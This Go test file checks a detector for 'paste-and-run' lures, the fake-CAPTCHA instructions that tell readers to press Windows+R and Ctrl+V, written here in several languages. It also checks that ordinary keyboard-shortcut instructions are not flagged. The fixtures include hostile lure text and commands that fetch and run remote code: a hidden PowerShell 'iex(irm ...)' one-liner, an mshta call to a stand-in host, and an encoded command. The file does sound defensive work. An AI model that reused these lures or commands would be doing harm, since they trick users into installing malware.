package links

import (
	"bytes"
	"testing"
	"unicode/utf8"
)

// TestPasteCommandWithoutPlus: the keys of a paste-and-run lure written
// without "+" ("Windows key and R", "Win-R", "Ctrl V") and the same
// instructions in Spanish, Portuguese, French, German and Italian mark the
// text; keyboard shortcuts in ordinary instructions (copying a table,
// pasting into a spreadsheet, opening PowerShell to paste a script) do not.
func TestPasteCommandWithoutPlus(t *testing.T) {
	const ps = "powershell -w hidden -c \"iex(irm 198.51.100.7/v)\""
	for _, tc := range []struct {
		name string
		doc  string
		want bool
	}{
		{"Windows key and R, paste", "Verify you are human: press the Windows key and R, paste the code and press Enter. " + ps, true},
		{"Win-R, Ctrl V", "1. Press Win-R\n2. Press Ctrl V\n3. Press Enter\n\n" + ps, true},
		{"the Windows logo sign", "Press ⊞ Win + R, then CTRL and V, then Enter. " + ps, true},
		{"hold the Windows key, press R", "Hold the Windows key, press R. Paste with Ctrl-V and press Enter.\n" + ps, true},
		{"keys in kbd tags without '+'", "<p>Press <kbd>Windows</kbd> <kbd>R</kbd>, then <kbd>Ctrl</kbd> <kbd>V</kbd>.</p><pre>" + ps + "</pre>", true},
		{"a fake CAPTCHA, Ctrl V, no run keys", "I am not a robot: press CTRL V in the verification box, then Enter. mshta https://cdn.lure.example/c.hta", true},
		{"a launcher named in capitals", "Press the Windows key and R, paste and press Enter: POWERSHELL -enc SQBFAFgA", true},
		{"Spanish", "Para verificar que no es un robot: pulse la tecla Windows y la R, luego pegue el código con Ctrl + V y pulse Intro. " + ps, true},
		{"Spanish with '+'", "Pulse Windows + R y pegue el comando: " + ps, true},
		{"Portuguese", "Pressione as teclas Windows + R, cole o comando e pressione Enter. " + ps, true},
		{"Portuguese without '+'", "Pressione as teclas Windows e R, depois cole com Ctrl V. Não sou um robô. " + ps, true},
		{"French", "Appuyez sur la touche Windows + R, collez la commande puis appuyez sur Entrée. " + ps, true},
		{"German", "Drücken Sie die Windows-Taste und R, fügen Sie den Befehl mit Strg + V ein und drücken Sie Enter. " + ps, true},
		{"German, einfügen", "Drücken Sie Windows + R und einfügen: " + ps, true},
		{"Italian", "Premi Windows + R, incolla il comando e premi Invio. Non sono un robot. " + ps, true},
		{"Dutch without '+'", "Druk op de Windows-toets en R, plak de code en druk op Enter. " + ps, true},
		{"Polish without '+'", "Nie jestem robotem: naciśnij klawisz Windows i R, wklej kod klawiszami Ctrl i V, naciśnij Enter. " + ps, true},
		{"Russian without '+'", "Я не робот: нажмите клавишу Windows и R, затем вставьте код и нажмите Enter. " + ps, true},
		{"Turkish without '+'", "Robot olmadığınızı doğrulayın: Windows tuşuna ve R tuşuna basın, kodu yapıştırın ve Enter tuşuna basın. " + ps, true},
		{"Turkish in capitals", "WINDOWS TUŞUNA VE R TUŞUNA BASIN, KODU YAPIŞTIRIN. " + ps, true},

		{"copying a table", "Press Ctrl+C to copy the table, then Ctrl+V to paste it into the spreadsheet.", false},
		{"pasting into a spreadsheet, a launcher named", "Run the PowerShell export, then press Ctrl+V to paste into the spreadsheet.", false},
		{"opening PowerShell to paste a script", "Open PowerShell as administrator, press Ctrl V to paste the script below and press Enter.\nGet-Service KestrelAgent", false},
		{"the Run dialog, typed", "Press the Windows key and R, type cmd.exe and press Enter, then run ipconfig /all and send us the output.", false},
		{"a version list, not keys", "Environment: Windows 11, R 4.3 and PowerShell 7.4. Paste the output of sessionInfo() in your reply.", false},
		{"Windows users and R", "Windows users can use R or PowerShell; paste your results into the shared sheet.", false},
		{"Spanish spreadsheet", "Pulse Ctrl + V para pegar la tabla en la hoja de cálculo; el informe sale de PowerShell.", false},
		{"German copy and paste", "Mit Strg + C kopieren und mit Strg + V in Excel einfügen; das Skript läuft in der PowerShell.", false},
		{"keys without a launcher", "Press the Windows key and R, then paste %appdata% and press Enter.", false},
		{"Dutch spreadsheet", "Druk op Ctrl + V om de tabel in Excel te plakken; het script draait in PowerShell.", false},
		{"Polish copy and paste", "Skopiuj tabelę klawiszami Ctrl i C, a potem wklej ją do arkusza; raport pochodzi z PowerShell.", false},
		{"Russian, a launcher named, typed", "Нажмите клавишу Windows и R, введите cmd.exe и нажмите Enter, затем пришлите вывод ipconfig.", false},
		{"Turkish Windows version", "Windows 11 ve R 4.3 kurulu; PowerShell çıktısını yapıştırın.", false},
	} {
		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
			t.Errorf("%s: pasteCommand = %v, want %v (%+v)", tc.name, got, tc.want, pasteWords([]byte(tc.doc)))
		}
	}
}

// TestPasteWords: the keys and the joining words between them.
func TestPasteWords(t *testing.T) {
	for _, tc := range []struct {
		doc                string
		runKey, ctrlV, put bool
	}{
		{"Windows key and R", true, false, false},
		{"WIN-X", true, false, false},
		{"win&nbsp;+&nbsp;r", true, false, false},
		{"⊞+R", true, false, false},
		{"Windows 11 R", false, false, false},
		{"Windows, and then the key of the R", false, false, false}, // "of" joins nothing
		{"the Windows key and and and and R", false, false, false},  // too many joining words
		{"Windows " + string(bytes.Repeat([]byte("k"), 40)) + " R", false, false, false},
		{"Ctrl and V", false, true, false},
		{"STRG-V", false, true, false},
		{"Ctrl+C, V", false, false, false},
		{"collez", false, false, true},
		{"Pasted", false, false, false},
	} {
		k := pasteWords([]byte(tc.doc))
		if k.runKey != tc.runKey || k.ctrlV != tc.ctrlV || k.paste != tc.put {
			t.Errorf("%q: %+v, want run %v ctrl+v %v paste %v", tc.doc, k, tc.runKey, tc.ctrlV, tc.put)
		}
	}
}

// FuzzPasteWords: the words are never longer than pasteWordsMax, never
// hold upper-case ASCII letters, white space or markup, and are valid
// UTF-8 unless doc is not.
func FuzzPasteWords(f *testing.F) {
	f.Add([]byte("Press <kbd>Win</kbd>&nbsp;R, then CTRL and V: pulse la tecla Windows y la R ⊞"))
	f.Add([]byte("<<<>&#43;&&;Ü\xc3\xff ein fügen"))
	f.Fuzz(func(t *testing.T, doc []byte) {
		pasteWords(doc)
		pasteCommand(doc)
		forEachPasteWord(doc, func(w []byte) bool {
			if len(w) > pasteWordsMax || bytes.ContainsAny(w, " \t\r\n<>&;ABCDEFGHIJKLMNOPQRSTUVWXYZ") {
				t.Fatalf("word %q from %q", w, doc)
			}
			if utf8.Valid(doc) && !utf8.Valid(w) && len(w) < pasteWordsMax-utf8.UTFMax {
				t.Fatalf("invalid word %q from valid %q", w, doc)
			}
			return true
		})
	})
}
